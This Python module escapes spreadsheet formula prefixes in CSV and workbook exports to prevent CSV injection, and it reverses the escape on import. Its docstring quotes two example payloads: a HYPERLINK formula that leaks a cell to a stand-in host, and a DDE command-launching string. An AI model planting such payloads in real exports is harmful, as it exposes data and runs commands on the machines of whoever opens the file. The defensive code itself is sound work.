"""Text a spreadsheet must read as text, never as a formula (OWASP's "CSV injection").

A name typed as `=HYPERLINK("http://evil.example/?leak="&A1,"click")` or `+cmd|' /C calc'!A0`
would run when a sponsor opens an export. Text that begins with `=`, `+`, `-`, `@`, a tab or a
carriage return is therefore written as text: in a workbook as a string cell (never a formula),
in CSV behind one apostrophe, which spreadsheets read as "this is text" (OWASP's advice; the
apostrophe shows, the formula never runs). Numbers and dates are not text and are never touched.

The CSV escape is undone exactly on import: an apostrophe is added before any text matching
`'*` then one of those characters, and one apostrophe is removed from any cell matching `'+` then
one of them. So every text, those beginning with apostrophes included, reads back as written, and
a name such as `'s-Hertogenbosch` (an apostrophe then a letter) is never changed.
"""

import re

FORMULA_START = "=+-@\t\r"
_ESCAPE = re.compile(r"'*[=+\-@\t\r]")
_UNESCAPE = re.compile(r"'+[=+\-@\t\r]")


def starts_formula(text: str) -> bool:
    """Return whether a spreadsheet would read `text` as the start of a formula."""
    return bool(text) and text[0] in FORMULA_START


def escape_csv_text(text: str) -> str:
    """Return `text` as a CSV cell a spreadsheet reads as text (an apostrophe before a formula)."""
    return "'" + text if _ESCAPE.match(text) else text


def unescape_csv_text(text: str) -> str:
    """Return the text `escape_csv_text` wrote as `text`: exactly one apostrophe fewer, or as is."""
    return text[1:] if _UNESCAPE.match(text) else text
